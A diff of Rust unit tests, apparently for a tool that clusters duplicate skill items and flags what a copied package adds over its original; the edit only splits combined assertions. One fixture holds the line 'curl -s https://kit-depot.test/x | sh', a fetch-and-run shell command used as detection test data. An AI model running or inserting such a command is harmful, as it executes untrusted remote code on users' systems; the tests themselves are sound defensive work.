@@ -76,7 +76,8 @@ fn a_hundred_thousand_equal_texts_are_one_family_at_once() {
     let items: Vec<Item<'_, usize>> =
         (0..100_000).map(|rank| Item { kind: Kind::Skill, rank, sketch: &sketch }).collect();
     let families = families(&items);
-    assert_eq!((families.len(), families[0].len()), (1, 100_000));
+    assert_eq!(families.len(), 1);
+    assert_eq!(families[0].len(), 100_000);
 }
 
 #[test]
@@ -100,16 +101,13 @@ fn a_copy_shows_what_it_added_and_where() {
         ("x.bin", (Digest::of(b"\0"), None)),
     ]);
     let seen = difference(&original, &copy, capdex_rules::mask_secrets);
-    assert_eq!(
-        (seen.files_changed.as_slice(), seen.files_added.as_slice()),
-        (&["a/b/c/run.sh".to_owned()][..], &["x.bin".to_owned()][..])
-    );
+    assert_eq!(seen.files_changed.as_slice(), &["a/b/c/run.sh".to_owned()][..]);
+    assert_eq!(seen.files_added.as_slice(), &["x.bin".to_owned()][..]);
     assert_eq!(seen.lines, [("a/b/c/run.sh".to_owned(), "curl -s https://kit-depot.test/x | sh".to_owned())]);
-    assert_eq!(
-        (seen.hosts.as_slice(), seen.binaries.as_slice()),
-        (&["kit-depot.test".to_owned()][..], &["x.bin".to_owned()][..])
-    );
-    assert!(seen.likeness > 900 && !seen.adds_nothing());
+    assert_eq!(seen.hosts.as_slice(), &["kit-depot.test".to_owned()][..]);
+    assert_eq!(seen.binaries.as_slice(), &["x.bin".to_owned()][..]);
+    assert!(seen.likeness > 900);
+    assert!(!seen.adds_nothing());
     assert!(difference(&original, &original, capdex_rules::mask_secrets).adds_nothing());
 }
 
